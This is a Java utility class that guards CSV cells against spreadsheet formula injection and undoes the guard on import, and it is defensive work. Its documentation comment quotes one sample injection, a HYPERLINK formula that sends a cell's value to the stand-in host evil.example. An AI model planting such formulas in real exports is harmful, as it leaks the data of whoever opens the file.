package gotourl.link;

/**
 * A link's text as a cell of a CSV file that a spreadsheet may open, guarded against formula
 * injection as OWASP's "CSV Injection" page recommends: a cell that starts with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return is read by Excel, LibreOffice and
 * Google Sheets as a formula (a title {@code =HYPERLINK("https://evil.example/?"&A1,"open")}
 * would run in whoever opens the export), so it is written with a single quote before it, which
 * the spreadsheet shows as text and does not display.
 *
 * <p>The guard is undone by {@link #unguard}, so goto's import of its own CSV gives back the
 * value as it was. To keep that exact for a value that itself starts with quotes before one of
 * those characters ({@code '=x}), the guard is one more quote before any run of quotes that
 * ends in one: {@code =x} is written {@code '=x}, {@code '=x} is written {@code ''=x}, and
 * reading strips exactly one. A value that starts with a quote followed by anything else
 * ({@code 'tis}) is neither guarded nor changed when read, whatever wrote it.
 */
public final class CsvCells {
    private CsvCells() {}

    /**
     * {@code value} as a CSV cell a spreadsheet shows as text: with a {@code '} before it when it
     * starts with zero or more {@code '} and then one of {@code = + - @ TAB CR}; otherwise (and
     * null) as it is.
     */
    public static String guard(String value) {
        return value != null && guarded(value, 0) ? "'" + value : value;
    }

    /**
     * A cell {@link #guard} wrote as the value it was given: one leading {@code '} removed when it
     * starts with one or more {@code '} and then one of {@code = + - @ TAB CR}; otherwise (and
     * null) as it is.
     */
    public static String unguard(String cell) {
        return cell != null && cell.startsWith("'") && guarded(cell, 1) ? cell.substring(1) : cell;
    }

    /** Whether {@code text} from {@code from} on is quotes, then a character a spreadsheet reads as a formula's start. */
    private static boolean guarded(String text, int from) {
        int i = from;
        while (i < text.length() && text.charAt(i) == '\'') {
            i++;
        }
        if (i == text.length()) {
            return false;
        }
        return switch (text.charAt(i)) {
            case '=', '+', '-', '@', '\t', '\r' -> true;
            default -> false;
        };
    }
}
